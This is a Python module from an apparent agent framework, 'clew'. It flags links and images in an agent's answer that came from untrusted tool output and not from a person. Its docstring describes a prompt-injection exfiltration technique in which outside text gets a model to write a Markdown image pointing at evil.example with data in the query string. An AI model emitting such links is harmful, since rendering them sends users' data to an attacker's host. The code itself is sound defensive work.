"""The links and images of an answer that no person gave, and where they were read.

Text from outside can have a model write `![](https://evil.example/?q=…)`: whoever shows the answer
as Markdown then sends what stands behind the question mark. clew shows answers as text and fetches
nothing; this is for who passes them on.
"""

import re
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Any, Final, TypeVar
from urllib.parse import unquote

import msgspec

from clew.core.events import Note
from clew.core.trajectory import Trajectory
from clew.core.values import encode
from clew.support.lazy_regex import Lazy
from clew.support.settings import check_fields

A = TypeVar("A")
"""Any answer: `Any` in its place would make the type of an agent Any."""

_ADDRESS: Final = Lazy(
    r"(?:\b[a-z][a-z0-9+.-]{1,15}://|\bwww\.)[^\s<>\"'`\[\]{}|\\]{1,2000}", re.IGNORECASE
)
_IMAGE: Final = Lazy(
    r"!\[[^\]]{0,1000}\]\(\s{0,9}<?([^\s<>)]{1,2000})"  # ![text](address)
    r"|<[a-z]{1,20}\s[^<>]{0,500}?\b(?:src|data|poster)\s{0,9}=\s{0,9}[\"']?([^\s\"'<>]{1,2000})",
    re.IGNORECASE,
)
_SCHEME: Final = Lazy(r"^(?:[a-z][a-z0-9+.-]*:)?/*(?:www\.)?")
_HOST: Final = Lazy(r"[/?:]")
_MARKS: Final = frozenset(".,;:!?*_")
_NAMED: Final = Lazy(r"!\[[^\]]{0,1000}\](?!\()")
"""An image whose address stands elsewhere in the text, by a name."""


class OutsideLink(msgspec.Struct, frozen=True):
    """A link of an answer that no person gave.

    `call` is the first call that returned it (`step.index`), and `complete` is False where it
    returned only its host. Without a call it stands in nothing that was read: the model made it up.
    `image` says that whoever shows the answer as Markdown or HTML fetches it unasked.
    """

    address: str
    call: str = ""
    complete: bool = False
    image: bool = False


@dataclass(frozen=True, slots=True)
class NoOutsideLinks:
    """A check: no image in an answer that no person gave; with `links`, no link either."""

    links: bool = False

    def __post_init__(self) -> None:
        """Raise `ConfigError` for a value of another type."""
        check_fields(self)

    async def __call__(self, answer: A, trajectory: Trajectory) -> str | None:  # pyright: ignore[reportInvalidTypeVarUse] - see its note
        """What is wrong with the answer."""
        outside = [
            link for link in links_from_outside(answer, trajectory) if self.links or link.image
        ]
        if not outside:
            return None
        what = "a link or image" if self.links else "an image"
        return f"the answer holds {what} that no person gave: leave out {outside[0].address[:200]}"


def links_from_outside(answer: Any, trajectory: Trajectory) -> tuple[OutsideLink, ...]:
    """The links and images of an answer that neither a person nor a trusted tool gave, in order."""
    text = answer if isinstance(answer, str) else encode(answer).decode()
    images = {match[1] or match[2]: True for match in _IMAGE.finditer(text)}
    plain = [ended(match[0]) for match in _ADDRESS.finditer(text)]
    if not (addresses := dict.fromkeys(plain) | images):
        return ()
    named = _NAMED.search(text) is not None
    own, read = _own(trajectory), _read(trajectory)
    made = [_traced(address, own, read) for address in addresses]
    return tuple(
        msgspec.structs.replace(link, image=named or link.address in images)
        for link in made
        if link is not None
    )


def ended(address: str) -> str:
    """An address without the marks that follow it; a parenthesis that it opens is its own."""
    while address[-1:] in _MARKS or (
        address[-1:] == ")" and address.count(")") > address.count("(")
    ):
        address = address[:-1]
    return address


def _own(trajectory: Trajectory) -> str:
    """What a person said, and what trusted tools did."""
    notes = (each.event for each in trajectory.entries if isinstance(each.event, Note))
    texts = [trajectory.goal, *(note.text for note in notes if note.source == "person")]
    seen = (call.observation for call in trajectory.calls)
    texts += [one.text for one in seen if one is not None and one.trust == "trusted"]
    return "\n".join(texts).lower()


def _read(trajectory: Trajectory) -> list[tuple[str, str]]:
    """What calls returned from outside, by their keys."""
    seen = ((call.key, call.observation) for call in trajectory.calls)
    return [
        (key, one.text.lower()) for key, one in seen if one is not None and one.trust != "trusted"
    ]


def _traced(address: str, own: str, read: Sequence[tuple[str, str]]) -> OutsideLink | None:
    """Where an address was read; None where it is a person's own."""
    bare = _SCHEME.sub("", unquote(address).lower()).partition("#")[0].rstrip("/")
    host = _HOST.split(bare, maxsplit=1)[0]
    source = next((key for key, text in read if bare in text), "")
    if bare in own or (not source and host in own):
        return None
    call = source or next((key for key, text in read if host in text), "")
    return OutsideLink(address, call, complete=bool(source))
